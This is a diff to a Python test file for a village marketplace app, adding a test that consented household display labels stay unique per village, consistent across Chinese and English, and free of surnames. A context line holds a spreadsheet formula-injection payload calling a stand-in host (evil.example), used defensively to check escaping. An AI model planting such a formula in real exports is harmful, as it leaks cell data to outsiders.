@@ -111,3 +111,31 @@ def test_a_household_name_that_looks_like_a_formula_is_exported_as_text(client, 
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
     assert '\'=HYPERLINK("http://evil.example/?a="&D2,"Open")' in [cell.value for cell in cells]
+
+
+def test_consented_labels_are_unique_in_their_village_and_the_same_in_both_languages(client, auth, district):
+    from pypinyin import lazy_pinyin
+
+    from marketplace.errors import DomainError
+    from marketplace.people.households import set_consent
+
+    with client.application.app_context():
+        consenting = db.session.scalars(select(Household).join(Village).where(
+            Village.name_zh == "响泉村", Household.consent_public.is_(True)).order_by(Household.id)).all()
+        labels = [(h.display_label_zh, h.display_label_en) for h in consenting]
+        assert len({zh for zh, _en in labels}) == len(labels) and len({en for _zh, en in labels}) == len(labels)
+        for household in consenting:  # no surname in English that the Chinese hides
+            assert household.head_name[0] not in household.display_label_zh.split(" · ")[0]
+            surname = lazy_pinyin(household.head_name[0])[0].capitalize()
+            assert surname not in household.display_label_en.split(",")[0].split()
+        first, second = consenting[0], consenting[1]
+        staff = db.session.scalar(select(User.id).filter_by(email="taihe@demo.cn"))
+        try:
+            set_consent(second.id, True, "户主同意展示", staff, label_zh=first.display_label_zh,
+                        label_en=first.display_label_en)
+        except DomainError as error:
+            assert error.field == "label_zh"
+        else:
+            raise AssertionError("a second household took a label already shown in its village")
+        db.session.rollback()
+        assert db.session.get(Household, second.id).display_label_zh != first.display_label_zh
